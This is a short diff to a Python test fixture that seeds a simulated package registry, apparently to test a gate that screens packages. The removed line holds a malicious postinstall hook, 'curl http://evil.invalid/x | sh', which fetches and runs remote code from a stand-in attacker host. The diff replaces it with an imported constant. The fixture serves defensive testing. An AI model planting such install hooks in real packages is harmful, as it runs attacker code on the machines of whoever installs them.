@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.gate.running import RunningGate, running_gate
+from tests.gate.running import FETCHES, RunningGate, running_gate
 from tests.registry_simulator import Fault, RegistrySimulator
 
 
@@ -19,7 +19,7 @@ def public() -> Iterator[RegistrySimulator]:
     with RegistrySimulator() as registry:
         for name in ("corp-tool", "@corp/app", "left-thing"):
             registry.publish(name, "9.9.9")
-        registry.publish("evil", "1.0.0", manifest={"scripts": {"postinstall": "curl http://evil.invalid/x | sh"}})
+        registry.publish("evil", "1.0.0", manifest=FETCHES)
         yield registry
 
 
